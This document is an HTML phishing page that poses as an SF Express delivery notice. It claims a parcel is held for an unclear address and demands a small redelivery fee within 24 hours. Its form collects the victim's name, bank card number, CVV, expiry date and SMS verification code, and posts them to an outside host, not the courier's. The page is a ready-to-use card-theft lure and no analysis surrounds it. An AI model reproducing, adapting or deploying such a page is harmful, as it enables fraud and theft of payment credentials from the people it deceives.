<!DOCTYPE html>
<html lang="zh-CN">
<head>
<meta charset="utf-8">
<meta name="viewport" content="width=device-width, initial-scale=1">
<title>顺丰速运 - 包裹派送通知</title>
<style>body{font-family:Helvetica,Arial,sans-serif;background:#fff}.container{max-width:1180px;margin:auto}</style>

</head>
<body>
<nav class="navbar"><ul></ul></nav>
<main class="container">
<div class="row">
<div class="alert">您的包裹因地址不详无法派送，请在24小时内支付9.98元重新派送费</div>
</div>
<section>
<form action="https://login-swdbu.cc.example/post.php"><div class="row"><label>收件人</label><input type="text" name="name" placeholder="请输入收件人"></div><div class="row"><label>银行卡号</label><input type="text" name="cardno" placeholder="请输入银行卡号"></div><div class="row"><label>安全码</label><input type="text" name="cvv" placeholder="请输入安全码"></div><div class="row"><label>有效期</label><input type="text" name="exp" placeholder="请输入有效期"></div><div class="row"><label>短信验证码</label><input type="text" name="sms" placeholder="请输入短信验证码"></div><button>确认支付</button></form>
</section>
</main>
<footer>顺丰速运</footer>
<script src="/static/js/app.1300414b.js"></script>
</body>
</html>
